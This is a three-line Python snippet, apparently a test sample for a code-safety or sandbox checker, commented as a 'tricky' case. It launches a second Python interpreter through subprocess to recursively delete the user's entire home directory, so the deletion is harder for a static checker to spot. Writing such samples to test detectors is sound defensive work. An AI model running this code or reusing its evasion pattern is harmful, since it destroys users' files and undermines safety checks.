# tricky: another interpreter does it
import subprocess, sys
subprocess.check_output([sys.executable, "-c", "import shutil, os; shutil.rmtree(os.path.expanduser('~'))"])
